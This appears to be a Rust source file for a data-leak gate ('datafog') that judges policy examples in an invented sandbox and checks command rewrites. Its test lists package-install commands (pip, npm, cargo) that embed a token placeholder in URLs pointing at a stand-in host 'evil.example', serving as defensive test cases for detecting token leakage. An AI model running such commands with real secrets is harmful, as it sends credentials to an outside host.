//! The made-up world in which a policy's examples are judged.
//!
//! An example must mean the same on every machine: so the home folder, the installation and the
//! working directory are invented, no file exists, no variable is set, and what stands in the
//! content is what the example declares. What a command starts is looked at as the gate looks at it.

use std::path::{Path, PathBuf};

use datafog_core::{
    Account, Action, ActionKind, Automation, Carrier, Destination, Facts, Finding, Flow, Flows,
    HostName, Id, Invented, Invocation, LocalTime, Mode, Principal, Remote, Repository,
    Surroundings,
};
use datafog_policy::{
    Diagnostic, Example, Interpreter, Level, Policy, RewriteExample, RewriteSample,
};
use datafog_rewrite::{Demand, Form, Refusal, Target, Way};

use crate::case::goes_home;
use crate::started::{Files, Started};
use crate::{losses, read};

/// The invented user's home.
const HOME: &str = "/home/example";
/// The invented installation.
const ROOT: &str = "/home/example/.datafog";
/// Where an example runs unless it says otherwise.
const PROJECT: &str = "/home/example/project";

/// Judges examples by the real profiles in an invented world.
#[derive(Clone, Copy, Debug)]
pub(crate) struct InventedWorld;

impl Interpreter for InventedWorld {
    fn facts<'a>(&'a self, example: &'a Example) -> Result<Box<dyn Facts + 'a>, String> {
        Ok(Box::new(ExampleFacts::new(example)))
    }
}

/// Asks about an example in the invented world: its facts, and the world around them.
pub fn in_invented_world<T>(
    example: &Example,
    ask: impl FnOnce(&dyn Facts, &dyn Surroundings) -> T,
) -> T {
    let facts = ExampleFacts::new(example);
    let world = nothing(facts.action.cwd.clone());
    ask(&facts, &world)
}

/// A machine with nothing on it.
pub(crate) fn nothing(cwd: impl Into<PathBuf>) -> Invented {
    Invented::at(HOME, cwd)
}

/// Checks every example of a rewrite: what it makes of one side is the other, and what it makes of
/// that is the same again.
pub(crate) fn check_rewrites(policy: &Policy) -> Vec<Diagnostic> {
    policy.rewrite_examples().iter().filter_map(check_rewrite).collect()
}

fn check_rewrite(example: &RewriteExample) -> Option<Diagnostic> {
    let wrong = |message: String, help: Option<String>| {
        Some(Diagnostic { level: Level::Error, message, help, ..example.place.clone() })
    };
    let name = &example.rewrite.name;
    let sides = (form(example, &example.before), form(example, &example.after));
    let (Some(before), Some(after)) = sides else {
        return wrong("the example is no plain command".to_owned(), None);
    };
    match rewritten(example, &before) {
        Err(Refusal(why)) => wrong(format!("rewrite `{name}` has no safe form of it: {why}"), None),
        Ok(made) if made == after => match rewritten(example, &after) {
            Ok(again) if again == after => None,
            Ok(_) | Err(_) => wrong(
                format!("rewrite `{name}` changes what it made itself"),
                Some("choose steps that find nothing left to do the second time".to_owned()),
            ),
        },
        Ok(Form::Command(argv)) => {
            let words: Vec<_> = argv.iter().map(|word| datafog_rewrite::shell_word(word)).collect();
            let shown: Vec<String> = words.into_iter().flatten().collect();
            wrong(format!("rewrite `{name}` makes `{}` of it", shown.join(" ")), None)
        }
        Ok(Form::Tool(..)) => wrong(format!("rewrite `{name}` makes something else of it"), None),
    }
}

fn form(example: &RewriteExample, sample: &RewriteSample) -> Option<Form> {
    match sample {
        RewriteSample::Arguments(arguments) => {
            Some(Form::Tool(example.tool.clone(), arguments.clone()))
        }
        RewriteSample::Command(line) => {
            let argv = Example::of(line)?.argv(Path::new(HOME), Path::new(ROOT));
            Some(Form::Command(argv))
        }
    }
}

/// The form that comes of it; the same when nothing changes.
fn rewritten(example: &RewriteExample, form: &Form) -> Result<Form, Refusal> {
    let target = match form {
        Form::Command(argv) => Target::Command(argv),
        Form::Tool(..) => Target::Tool,
    };
    let own = Path::new(ROOT).join("bin/datafog");
    let demand = Demand { way: Way::Custom(&example.rewrite), target, findings: &[], own: &own };
    let made = datafog_rewrite::rewrite(form, &demand, &nothing(PROJECT))?;
    Ok(made.unwrap_or_else(|| form.clone()))
}

struct ExampleFacts<'a> {
    example: &'a Example,
    action: Action,
    findings: Vec<Finding>,
    unscanned: Vec<String>,
    principal: Principal,
    account: Account,
    /// What it starts. What the example declares as found or unscanned is so there as well.
    started: Vec<Self>,
}

impl<'a> ExampleFacts<'a> {
    fn new(example: &'a Example) -> Self {
        let (home, root) = (Path::new(HOME), Path::new(ROOT));
        let cwd =
            example.cwd.as_ref().map_or_else(|| PROJECT.into(), |word| word.expand(home, root));
        let world = nothing(cwd);
        let id = Id::new(0, [0; 10]);
        let (action, started) = match &example.tool {
            Some((name, arguments)) => {
                let id = (id, ActionKind::ToolCall);
                read::tool(id, (name, arguments.clone()), &world, Files::None)
            }
            None => {
                let argv = example.argv(home, root);
                read::command((id, ActionKind::CommandExec), argv, &world, Files::None)
            }
        };
        Self::of(example, (action, declared(example)), started, &world)
    }

    fn of(
        example: &'a Example,
        (mut action, unscanned): (Action, Vec<String>),
        started: Vec<Started>,
        world: &dyn Surroundings,
    ) -> Self {
        resolve(&mut action, world);
        let principal = Principal {
            kind: example.principal,
            agent: example.agent.clone(),
            session: example.stated.session.clone(),
            parents: example.stated.parents.clone(),
            ..Principal::default()
        };
        let account = example.stated.account();
        let inner = |one: Started| {
            // What of a line could not be understood is what nobody can scan.
            let mut unseen = declared(example);
            unseen.extend(untold(&one.action.invocation));
            Self::of(example, (one.action, unseen), one.inner, world)
        };
        let started = started.into_iter().map(inner).collect();
        Self {
            findings: example.findings(),
            example,
            action,
            unscanned,
            principal,
            account,
            started,
        }
    }
}

/// Finds out where it goes. A wrapper goes where the command behind it goes.
pub(crate) fn resolve(action: &mut Action, world: &dyn Surroundings) {
    let behind = |action: &Action| action.parts.first().cloned();
    let innermost = core::iter::successors(behind(action), behind).last();
    match innermost {
        None => datafog_shim::resolve(&mut action.invocation, world),
        Some(mut innermost) => {
            datafog_shim::resolve(&mut innermost.invocation, world);
            let here = &mut action.invocation.destinations;
            if here.iter().any(|one| matches!(one.host, HostName::Deferred(_))) {
                *here = innermost.invocation.destinations;
            }
        }
    }
}

/// What an example says of content that nobody can scan.
fn declared(example: &Example) -> Vec<String> {
    if example.unscanned { vec![String::from("declared")] } else { Vec::new() }
}

/// What would leave and is nowhere to be looked at, in words.
fn untold(invocation: &Invocation) -> impl Iterator<Item = String> {
    let leaving = invocation.contents.iter().filter(|source| source.flow == Flow::Leaves);
    leaving.filter_map(|source| match &source.carrier {
        Carrier::Untold(why) => Some(why.clone()),
        Carrier::Argument(_) | Carrier::File(_) | Carrier::Inline(_) | Carrier::Stdin => None,
    })
}

impl Facts for ExampleFacts<'_> {
    fn action(&self) -> &Action {
        &self.action
    }

    fn started(&self) -> Vec<&dyn Facts> {
        self.started.iter().map(|one| -> &dyn Facts { one }).collect()
    }

    fn flows(&self) -> Flows {
        self.action.invocation.flows.toward(self.destinations())
    }

    fn destinations(&self) -> &[Destination] {
        &self.action.invocation.destinations
    }

    fn findings(&self) -> &[Finding] {
        &self.findings
    }

    fn going_home(&self, finding: &Finding) -> bool {
        let declared = self.findings.iter().position(|known| known == finding);
        let declared = declared.and_then(|index| self.example.findings.get(index));
        if let Some(stated) = declared.and_then(|finding| finding.going_home) {
            return stated;
        }
        let homes = datafog_detect::detectors()
            .iter()
            .filter(|detector| detector.entity == finding.entity)
            .flat_map(|detector| detector.hosts);
        let homes: Vec<&str> = homes.copied().collect();
        goes_home(&self.action.invocation, finding, &homes, || self.destinations())
    }

    fn unscanned(&self) -> &[String] {
        &self.unscanned
    }

    fn mode(&self) -> Mode {
        self.example.mode
    }

    fn principal(&self) -> &Principal {
        &self.principal
    }

    fn account(&self) -> Option<&Account> {
        Some(&self.account)
    }

    fn repository(&self, _folder: &Path) -> Option<Option<Repository>> {
        Some(self.example.stated.repository(Path::new(HOME), Path::new(ROOT)))
    }

    fn remotes(&self, _folder: &Path) -> Option<Vec<Option<Remote>>> {
        Some(self.example.stated.remotes())
    }

    fn uncommitted(&self, _folder: &Path) -> Option<bool> {
        self.example.stated.uncommitted
    }

    fn discards(&self, is_spared: &dyn Fn(&Path) -> bool) -> Option<bool> {
        losses::by_text(&self.action, self.example.stated.uncommitted, is_spared)
    }

    fn local_time(&self, _zone: &str) -> Option<LocalTime> {
        self.example.stated.time
    }

    fn automation(&self) -> Automation {
        self.example.stated.automation()
    }

    fn calls(&self, _counter: &str, _seconds: u32, _most: u32) -> Option<u32> {
        Some(self.example.stated.calls.unwrap_or(1))
    }

    fn outside_score(&self) -> Option<u32> {
        self.example.stated.score
    }

    fn home(&self) -> Option<&Path> {
        Some(Path::new(HOME))
    }

    fn root(&self) -> &Path {
        Path::new(ROOT)
    }
}

#[cfg(test)]
mod tests {
    use std::ffi::OsString;

    use datafog_core::{Channel, Confidence, Key, Severity, Span};

    use super::*;

    /// Whether a token at the mark `T` of a line goes to GitHub alone.
    fn is_home(line: &[&str]) -> bool {
        let world = nothing(PROJECT);
        let argv: Vec<OsString> = line.iter().map(OsString::from).collect();
        let mut invocation = datafog_shim::interpret(&argv, &world);
        datafog_shim::resolve(&mut invocation, &world);
        let at = line.iter().enumerate().find_map(|(index, word)| Some((index, word.find("TTT")?)));
        let (argument, start) = at.unwrap();
        let finding = Finding {
            detector: "github".into(),
            entity: "secret.github.token".into(),
            channel: Channel::Argument(argument),
            span: Span::at(start, 3),
            confidence: Confidence::CERTAIN,
            severity: Severity::High,
            fingerprint: Key::from_bytes(&[1; 32]).unwrap().digest("x", [b"".as_slice()]),
            preview: String::new(),
        };
        goes_home(&invocation, &finding, &["github.com"], || &invocation.destinations)
    }

    #[test]
    fn a_secret_in_a_url_is_told_to_the_host_of_that_url() {
        let home: &[&[&str]] = &[
            &["pip", "install", "git+https://TTT@github.com/a/b"],
            &["pip", "install", "-U", "git+https://x:TTT@github.com/a/b@v1#egg=b"],
            &["pip", "install", "x @ git+https://TTT@github.com/a/b ; python_version > '3'"],
            &["npm", "install", "git+https://TTT@github.com/a/b"],
            &["cargo", "install", "--git", "https://TTT@github.com/a/b"],
            &["env", "A=b", "pip", "install", "git+https://TTT@github.com/a/b"],
        ];
        let away: &[&[&str]] = &[
            &["pip", "install", "git+https://TTT@evil.example/a/b"],
            &["pip", "install", "x @ git+https://TTT@evil.example/github.com/b"],
            &["pip", "install", "git+https://github.com/a/b", "-i", "https://TTT@evil.example/"],
            &["pip", "install", "git+https://github.com/a/b", "TTT.example/x"],
            &["npm", "install", "git+https://TTT@evil.example/a/b"],
            &["cargo", "install", "--git", "https://TTT@evil.example/a/b"],
            &["env", "-S", "pip install git+https://github.com/a/b TTT"],
        ];
        for line in home {
            assert!(is_home(line), "{line:?}");
        }
        for line in away {
            assert!(!is_home(line), "{line:?}");
        }
    }
}
